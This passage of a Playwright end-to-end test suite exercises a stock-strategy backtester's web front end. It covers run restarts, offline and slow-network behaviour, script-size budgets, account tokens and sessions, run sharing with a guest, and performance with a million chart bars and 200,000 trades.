  await two.getByRole('radio', { name: /^Only 3/ }).check();
  await page.waitForFunction((n) => document.querySelectorAll('table.pairs tbody tr').length === n, Math.min(50, told.total), { timeout: 15_000 }).catch(() => fault(where, `not ${told.total} trades are shown that only the first made`));
  const chosen = told.items.at(-1);
  await two.locator('table.pairs tbody tr').last().getByRole('link').click();
  await page.waitForFunction((n) => document.querySelector('.vrow.chosen span')?.textContent === n, (chosen.a_index + 1).toLocaleString('en-US'), { timeout: 15_000 }).catch(() => fault(where, `the link does not choose trade ${chosen.a_index + 1}`));
  check(where, page.url().includes(one), `the link leads to ${page.url()}`);
  await has(page, where, /Decided at/, '.journal');
  await page.context().close();
});

part('progress, restart and cancel', async (where) => {
  const page = await open(browser, where, { allow: [/Failed to load resource/, /ERR_/] });
  // Every symbol by the minute, with indicators: long enough to be interrupted.
  const slow = { strategy: 'name: slow\ndata: {bars: 1m}\nentry: close > sma(close, 50) and rsi(close, 14) < 60\nexit: close < sma(close, 20)\n', symbols: (await server.ask('GET', '/api/data/tickers?timeframe=1m&limit=100')).tickers };
  const started = [];
  for (let i = 0; i < 6; i++) started.push((await server.ask('POST', '/api/backtest/run', { ...slow, set: { cash: 100000 + i } })).run_id);
  const last = started.at(-1);
  await page.goto(`${server.url}/#/runs/${last}`);
  await page.waitForSelector('h1');
  const before = await text(page, 'main');
  await server.stop();
  await page.waitForTimeout(1500);
  await server.start();
  await page.waitForSelector('.verdict, .empty', { timeout: 120_000 }).catch(async () => fault(where, `the page does not pick the run up after a restart: ${(await text(page, 'main')).slice(0, 200)} (before: ${before.slice(0, 100)})`));
  for (const id of started) {
    const r = await server.ask('GET', `/api/backtest/results/${id}?wait=30`);
    check(where, r.status === 'succeeded', `after a restart run ${id} is ${r.status}`);
  }
  await page.context().close();
});

part('opened as a file', async (where) => {
  const folder = mkdtempSync(join(tmpdir(), 'frontend-file-'));
  cpSync(dist, folder, { recursive: true });
  writeFileSync(join(folder, 'config.js'), `window.BACKTESTER_CONFIG = { apiBase: "http://localhost:${server.port}" };\n`);
  const page = await open(browser, where, { origin: '' });
  await page.goto(pathToFileURL(join(folder, 'index.html')).href);
  await page.waitForSelector('.idea');
  await go(page, '#/edit?from=golden-cross');
  await page.waitForSelector('.seeing canvas', { state: 'attached' });
  await page.waitForFunction(() => !document.querySelector('.bench-head .button.main')?.disabled);
  await page.getByRole('button', { name: 'Run backtest' }).click();
  await page.waitForSelector('.verdict', { timeout: 60_000 });
  await page.context().close();
  rmSync(folder, { recursive: true });
});

part('without a network', async (where) => {
  const page = await open(browser, where, { allow: [/ERR_|Failed to load/] });
  await page.goto(`${server.url}/#/edit?from=golden-cross`);
  await page.waitForSelector('.seeing canvas', { state: 'attached' });
  await page.context().setOffline(true);
  await write(page, '# offline\n');
  await has(page, where, /cannot be reached/, '#app');
  await page.context().setOffline(false);
  await page.getByRole('button', { name: 'Try again' }).first().click();
  await page.waitForFunction(() => !document.querySelector('.top + .banner')).catch(() => fault(where, 'the banner stays when the server is back'));
  check(where, await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# offline')), 'what was written offline is lost');
  await page.context().close();
});

part('budgets', async (where) => {
  const page = await open(browser, where, { origin: server.url });
  const loaded = [];
  page.on('response', (r) => { if (r.url().endsWith('.js')) loaded.push(new URL(r.url()).pathname.slice(1)); });
  await page.goto(`${server.url}/`);
  await page.waitForSelector('.idea');
  const size = (names) => names.reduce((n, f) => n + gzipSync(readFileSync(join(dist, f))).length, 0) / 1000;
  const first = size(loaded);
  const paint = await page.evaluate(() => performance.getEntriesByName('first-contentful-paint')[0]?.startTime ?? -1);
  console.log(`   first view: ${first.toFixed(0)} kB of scripts (gzip) in ${loaded.length} files, first paint after ${paint.toFixed(0)} ms`);
  check(where, first <= 200, `the first view loads ${first.toFixed(0)} kB of scripts`);
  loaded.length = 0;
  const editing = await open(browser, where, { origin: server.url });
  editing.on('response', (r) => { if (r.url().endsWith('.js')) loaded.push(new URL(r.url()).pathname.slice(1)); });
  await editing.goto(`${server.url}/#/edit?from=golden-cross`);
  await editing.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.querySelector('.cm-content'));
  const write = size(loaded.filter((f) => !f.includes('prices')));
  console.log(`   editor: ${write.toFixed(0)} kB before the chart, ${size(loaded).toFixed(0)} kB with it`);
  check(where, write <= 200, `the editor loads ${write.toFixed(0)} kB of scripts before the chart`);
  for (const f of readdirSync(join(dist, 'modules'))) check(where, /^[a-z]+-[\w-]{8}\.js$/.test(f), `modules/${f} has no hash`);
  await page.context().close();
  await editing.context().close();
});

part('accounts', async (where) => {
  const own = await new Server(binary, { args: ['--auth', 'required'] }).start();
  const allow = [/401/, /403/, /422/, /429/];
  const page = await open(browser, where, { origin: own.url, allow });
  await page.goto(`${own.url}/`);
  await page.getByRole('radio', { name: 'New account' }).check();
  await page.getByRole('button', { name: 'I have an invitation' }).waitFor(); // nobody has an account yet: the form asks for the token
  await audit(page, `${where}, sign in`);
  await page.getByLabel('Name').fill('alice');
  await page.getByLabel('Password').fill('short');
  await has(page, where, /At least 12 characters/, '.sign-in');
  await page.getByLabel('Password').fill('a harbour of quiet boats');
  await page.getByLabel('Setup token').fill('nothing like it');
  await page.getByRole('button', { name: 'Make the account' }).click();
  await page.waitForSelector('.trouble');
  await page.getByLabel('Setup token').fill(readFileSync(join(own.folder, 'results/db/setup-token'), 'utf8').trim());
  await page.getByRole('button', { name: 'Make the account' }).click();
  await page.waitForSelector('.idea');
  check(where, (await page.evaluate(() => document.cookie)) === '' || !/bt_session/.test(await page.evaluate(() => document.cookie)), 'a script can read the session');
  // A token for scripts works until it is revoked.
  await page.goto(`${own.url}/#/account`);
  await page.getByLabel('Name', { exact: true }).fill('notebook');
  await page.getByRole('button', { name: 'Make a token' }).click();
  const token = (await page.locator('.secret code').first().textContent()) ?? '';
  check(where, /^btp_/.test(token), `a personal token is ${token.slice(0, 8)}`);
  const bearer = { Authorization: `Bearer ${token}` };
  check(where, (await own.ask('GET', '/api/auth/verify', undefined, bearer)).user.username === 'alice', 'the token is not alice');
  await audit(page, `${where}, account`);
  // Another login is seen and ended from here.
  const other = (await own.ask('POST', '/api/auth/login', { username: 'alice', password: 'a harbour of quiet boats', mode: 'token' })).token;
  await page.reload();
  await page.waitForSelector('.sessions li:nth-child(2)');
  check(where, (await page.locator('.sessions li', { hasText: 'here' }).count()) === 1, 'not one session is this one');
  await page.getByRole('button', { name: 'End', exact: true }).click();
  await page.waitForFunction(() => document.querySelectorAll('.sessions li').length === 1);
  check(where, await own.ask('GET', '/api/auth/verify', undefined, { Authorization: `Bearer ${other}` }).then(() => false, () => true), 'a session that was ended still works');
  await page.getByRole('button', { name: 'Revoke' }).click();
  await page.waitForFunction(() => !document.querySelector('.rows:not(.sessions) li'));
  check(where, await own.ask('GET', '/api/auth/verify', undefined, bearer).then(() => false, () => true), 'a revoked token still works');
  // The session ends while something is being written: it is kept, and comes back after signing in.
  await page.goto(`${own.url}/#/edit?from=golden-cross`);
  await page.waitForSelector('.seeing canvas', { state: 'attached' });
  const elsewhere = await own.ask('POST', '/api/auth/login', { username: 'alice', password: 'a harbour of quiet boats', mode: 'token' });
  await own.ask('POST', '/api/auth/logout-all', {}, { Authorization: `Bearer ${elsewhere.token}` }).catch(() => fetch(`${own.url}/api/auth/logout-all`, { method: 'POST', headers: { Authorization: `Bearer ${elsewhere.token}` } }));
  await write(page, '# written when the session was over\n');
  await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
  await page.getByLabel('Name').fill('alice');
  await page.getByLabel('Password').fill('a wrong one of twelve');
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await has(page, where, /name or the password is not right/, '.sign-in');
  await page.getByLabel('Password').fill('a harbour of quiet boats');
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await page.waitForFunction(() => !document.querySelector('.sign-in'));
  check(where, await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# written when the session was over')), 'what was written is lost');
  // A run is shared, and read by somebody else without what its owner wrote on it, until it is not any more.
  const words = { strategy: 'golden-cross', symbols: ['ACME'], notes: 'Only for me.', tags: ['own'] };
  const id = await own.run(words, await own.enter('alice', 'a harbour of quiet boats'));
  await own.add('bob', 'a meadow of slow cattle');
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: own.url });
  const guest = await open(browser, `${where}, a guest`, { origin: own.url, allow: [...allow, /404/] });
  await guest.goto(`${own.url}/#/runs/${id}`);
  await guest.getByRole('radio', { name: 'Sign in' }).check();
  await guest.getByLabel('Name').fill('bob');
  await guest.getByLabel('Password').fill('a meadow of slow cattle');
  await guest.getByRole('button', { name: 'Sign in', exact: true }).click();
  await has(guest, where, /Open the run: there is no such thing/, '.trouble');
  await page.goto(`${own.url}/#/runs/${id}`);
  await page.getByRole('button', { name: 'Share', exact: true }).click();
  await has(page, where, /Shared\. The link is copied\./, '.toasts');
  await page.getByRole('button', { name: 'Stop sharing' }).waitFor();
  const address = await page.evaluate(() => navigator.clipboard.readText());
  check(where, address === `${own.url}/#/runs/${id}`, `the link is ${address}`);
  await guest.goto('about:blank');
  await guest.goto(address);
  await has(guest, where, /Shared by alice, who alone can change it/, '.shared');
  await guest.waitForSelector('.uplot canvas', { state: 'attached' });
  await has(guest, where, /Exposure/, 'main');
  check(where, await guest.locator('[aria-label="Exposure over time"] canvas').count() === 1, 'the exposure is not drawn');
  check(where, !/Only for me|own/.test((await guest.locator('.labels').allTextContents()).join()) && !/Only for me/.test(await text(guest, 'main')), 'a guest reads the notes');
  for (const name of ['Star', 'Share', 'Stop sharing', 'Cancel', /Edit name|Add a name/]) check(where, await guest.getByRole('button', { name, exact: true }).count() === 0, `a guest has the button ${name}`);
  for (const tab of ['Trades', 'Metrics', 'Settings', 'Tearsheet']) {
    await guest.getByRole('radio', { name: tab }).check();
    await guest.waitForSelector({ Trades: '.trades .vrow', Metrics: '.metric', Settings: '.facts', Tearsheet: 'iframe.tearsheet' }[tab]);
  }
  check(where, await guest.locator('.trouble').count() === 0, 'a part of a shared run is refused');
  await page.getByRole('button', { name: 'Stop sharing' }).click();
  await has(page, where, /Not shared any more\./, '.toasts');
  await page.getByRole('button', { name: 'Share', exact: true }).waitFor();
  await guest.reload();
  await has(guest, where, /Open the run: there is no such thing/, '.trouble');
  await guest.context().close();
  await page.goto(`${own.url}/#/account`);
  await page.getByRole('button', { name: 'Sign out everywhere' }).click();
  await page.getByRole('heading', { name: 'Sign in', exact: true }).waitFor();
  await page.context().close();
  await own.end();
});

// A made-up walk by the minute, as the CSV that data import takes.
function minutes(n) {
  const rows = ['time,open,high,low,close,volume'];
  let x = 50;
  let seed = 7;
  const random = () => { seed = (seed * 16807) % 2147483647; return seed / 2147483647; };
  for (let day = Date.UTC(2011, 0, 3), made = 0; made < n; day += 86_400_000) {
    const week = new Date(day).getUTCDay();
    if (week === 0 || week === 6) continue;
    for (let m = 0; m < 330 && made < n; m++, made++) { // 14:30 to 20:00 UTC lies in the regular session all year
      const open = x;
      x = Math.max(1, x * (1 + (random() - 0.4999) * 0.002));
      rows.push(`${new Date(day + (14 * 60 + 30 + m) * 60_000).toISOString().slice(0, 19)}Z,${open.toFixed(3)},${(Math.max(open, x) * 1.0004).toFixed(3)},${(Math.min(open, x) * 0.9996).toFixed(3)},${x.toFixed(3)},${100 + Math.floor(random() * 900)}`);
    }
  }
  return rows.join('\n');
}

part('a million bars', async (where) => {
  const own = new Server(binary);
  const file = join(own.folder, 'WALK.csv');
  writeFileSync(file, minutes(1_100_000));
  const env = { PATH: process.env.PATH, HOME: own.folder, BACKTESTER_DATA_DIR: join(own.folder, 'data') };
  const out = spawnSync(binary, ['data', 'import', file, '--env-file', 'none'], { env, encoding: 'utf8' });
  if (out.status !== 0) return fault(where, `data import ended with ${out.status}: ${out.stderr.slice(0, 600)}`);
  own.args = ['--store', 'imported'];
  await own.start();
  const asked = Date.now();
  const got = await own.ask('GET', '/api/data/bars/WALK?timeframe=1m&points=20000');
  console.log(`   ${got.data.t.length} of ${got.points_total} bars from the server in ${Date.now() - asked} ms`);
  check(where, got.points_total >= 1_000_000 && got.data.t.length <= 20_000, `${got.data.t.length} of ${got.points_total} bars came`);
  const page = await open(browser, where, { origin: own.url });
  await page.goto(`${own.url}/#/data`);
  await page.waitForSelector('.srow');
  await page.goto(`${own.url}/#/data/WALK?frame=1m`);
  const began = Date.now();
  await page.waitForSelector('.canvas canvas', { state: 'attached' });
  const drawn = Date.now() - began;
  // Pan as a hand does, and look at how long the page was busy in every frame.
  const box = await page.locator('.canvas').boundingBox();
  await page.waitForTimeout(500);
  const requests = [];
  page.on('request', (r) => { if (r.url().includes('/bars/')) requests.push(new URL(r.url()).search); });
  const busy = await frames(page, async () => {
    await page.mouse.move(box.x + box.width * 0.7, box.y + 100);
    await page.mouse.down();
    for (let i = 0; i < 60; i++) await page.mouse.move(box.x + box.width * 0.7 - i * 4, box.y + 100 + (i % 3));
    await page.mouse.up();
  });
  for (let i = 0; i < 45; i++) {
    await page.mouse.move(box.x + box.width / 2, box.y + 100);
    await page.mouse.wheel(0, -400);
    await page.waitForTimeout(20);
  }
  await page.waitForTimeout(2500);
  check(where, requests.some((q) => q.includes('from=')), 'zooming in does not ask for the part that is looked at');
  await has(page, where, /candles for|bars/);
  console.log(`   drawn after ${drawn} ms; processor time in a frame of panning: median ${busy.median.toFixed(1)} ms, 95 % below ${busy.p95.toFixed(1)} ms (${busy.count} frames); then ${requests.length} requests, the last ${requests.at(-1)}`);
  await page.context().close();
  await own.end();
});

// frames traces what the main thread does between frames while something happens.
async function frames(page, act) {
  const client = await page.context().newCDPSession(page);
  const events = [];
  client.on('Tracing.dataCollected', (e) => events.push(...e.value));
  await client.send('Tracing.start', { transferMode: 'ReportEvents', traceConfig: { includedCategories: ['devtools.timeline', 'disabled-by-default-devtools.timeline', 'toplevel'] } });
  await act();
  const done = new Promise((r) => client.once('Tracing.tracingComplete', r));
  await client.send('Tracing.end');
  await done;
  // The work of a frame: the tasks of the page's main thread that lie between two of its animation frames.
  const fires = events.filter((e) => e.name === 'FireAnimationFrame');
  const thread = fires[0]?.tid;
  const name = events.some((e) => e.name === 'RunTask') ? 'RunTask' : 'ThreadControllerImpl::RunTask';
  const tasks = events.filter((e) => e.tid === thread && e.name === name && e.dur).sort((a, b) => a.ts - b.ts);
  const times = fires.filter((e) => e.tid === thread).map((e) => e.ts).sort((a, b) => a - b);
  const work = times.slice(1).map((t, i) => tasks.filter((x) => x.ts >= times[i] - 1 && x.ts < t).reduce((n, x) => n + (x.tdur ?? x.dur), 0) / 1000).sort((a, b) => a - b);
  if (tasks.some((x) => x.tdur === undefined)) console.log('   (times are of the clock: the browser does not tell processor time)');
  return { count: work.length, median: work[Math.floor(work.length / 2)] ?? -1, p95: work[Math.floor(work.length * 0.95)] ?? -1 };
}

// The trades of a run of 200,000, page after page as the server sends them, gone through as with a wheel.
part('two hundred thousand trades', async (where) => {
  const total = 200_000;
  const real = await server.ask('GET', `/api/backtest/results/${ids.run}/trades?limit=500`);
  const page = await open(browser, where, { origin: server.url });
  // Answered within the page: sending so much through the debugger would take longer than everything else.
  await page.addInitScript(({ some, total }) => {
    const plain = globalThis.fetch;
    globalThis.asked = 0;
    globalThis.fetch = async (input, init) => {
      const url = new URL(String(input), location.href);
      if (!url.pathname.endsWith('/trades')) return plain(input, init);
      const [at, limit] = [Number(url.searchParams.get('cursor') ?? 0), Number(url.searchParams.get('limit'))];
      globalThis.asked++;
      const items = Array.from({ length: Math.min(limit, total - at) }, (_, i) => ({ ...some[(at + i) % some.length], pnl: at + i }));
      return new Response(JSON.stringify({ items, total, next_cursor: at + limit < total ? String(at + limit) : null }), { headers: { 'Content-Type': 'application/json' } });
    };
  }, { some: real.items, total });
  const began = Date.now();
  await page.goto(`${server.url}/#/runs/${ids.run}?tab=trades`);
  await page.waitForSelector('.trades .vrow:not(.vhead)');
  const first = Date.now() - began;
  const list = page.locator('.trades');
  for (let i = 0; i < 200 && Number(await list.getAttribute('aria-rowcount')) <= total; i++) {
    await list.evaluate((e) => { e.scrollTop = e.scrollHeight; });
    await page.waitForTimeout(50);
  }
  const rows = await list.getAttribute('aria-rowcount');
  check(where, Number(rows) === total + 1, `the list has ${rows} rows`);
  const asked = await page.evaluate(() => globalThis.asked);
  const all = Date.now() - began;
  await page.waitForTimeout(500);
  const box = await list.boundingBox();
  await page.mouse.move(box.x + 100, box.y + 200);
  await list.evaluate((e) => { e.scrollTop = 0; });
  await page.evaluate(() => { const tick = () => requestAnimationFrame(tick); tick(); }); // frames are told apart by these
  const busy = await frames(page, async () => {
    for (let i = 0; i < 80; i++) await page.mouse.wheel(0, i % 8 === 7 ? 2_000 : 300);
    await page.waitForTimeout(300);
  });
  check(where, (await page.evaluate(() => document.querySelectorAll('.trades .vrow').length)) < 80, 'rows that cannot be seen are in the page');
  await list.evaluate((e) => { e.scrollTop = e.scrollHeight; });
  await page.waitForFunction(() => [...document.querySelectorAll('.trades .vrow span:first-child')].some((s) => s.textContent === '200,000'), null, { timeout: 10_000 }).catch(() => fault(where, 'the last trade cannot be scrolled to'));
  console.log(`   first rows after ${first} ms, all of them in ${asked} pages after ${all} ms; a frame of scrolling takes ${busy.median.toFixed(1)} ms, p95 ${busy.p95.toFixed(1)} ms (${busy.count} frames)`);
  check(where, busy.count > 20 && busy.p95 <= 16, `the page is busy for ${busy.p95.toFixed(1)} ms in one of ${busy.count} frames of scrolling`);
  await page.context().close();
});

// On a slow line the frame is there at once, what comes is said to be coming, and nothing is started twice.
part('a slow network', async (where) => {
  const page = await open(browser, where, { origin: server.url });
  const line = await page.context().newCDPSession(page);
  await line.send('Network.emulateNetworkConditions', { offline: false, latency: 400, downloadThroughput: 50_000, uploadThroughput: 50_000 });
  const began = Date.now();
  await page.goto(`${server.url}/#/strategies`, { waitUntil: 'commit' });
  await page.waitForSelector('.loading', { timeout: 20_000 });
  await page.waitForSelector('.idea', { timeout: 30_000 });
  console.log(`   at 400 kbit/s and 400 ms the first view is whole after ${Date.now() - began} ms`);
  check(where, Date.now() - began < 10_000, 'the first view takes longer than ten seconds');
  await page.goto(`${server.url}/#/runs/${ids.run}`);
  await page.waitForSelector('.verdict', { timeout: 30_000 });
  await line.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: -1 });
  await page.goto(`${server.url}/#/edit?from=golden-cross`);
  await page.waitForFunction(() => document.querySelector('.bench-head .button.main:not([disabled])'));
  await line.send('Network.emulateNetworkConditions', { offline: false, latency: 1500, downloadThroughput: 50_000, uploadThroughput: 50_000 });
  const runs = async () => (await server.ask('GET', '/api/backtest/history?limit=500')).items.length;
  const before = await runs();
  const start = page.getByRole('button', { name: 'Run backtest' });
  await start.click();
  await page.waitForSelector('.bench-head .button.main[aria-busy="true"]');
  check(where, await start.isDisabled(), 'a run that is being sent can be sent again');
  await page.waitForURL(/#\/runs\/[0-9A-Z]{26}/, { timeout: 30_000 });
  check(where, (await runs()) === before + 1, 'not one run was started');
  await page.context().close();
});

for (const [name, run] of parts) {
  if (only && !name.includes(only)) continue;
  console.log(`== ${name}`);
  try {
    await run(name);
  } catch (e) {
    fault(name, e.stack ?? e.message);
  }
}
await browser.close();
await server.end();
console.log(faults.length === 0 ? 'the whole way: no fault' : `${faults.length} faults`);
process.exit(faults.length === 0 ? 0 : 1);
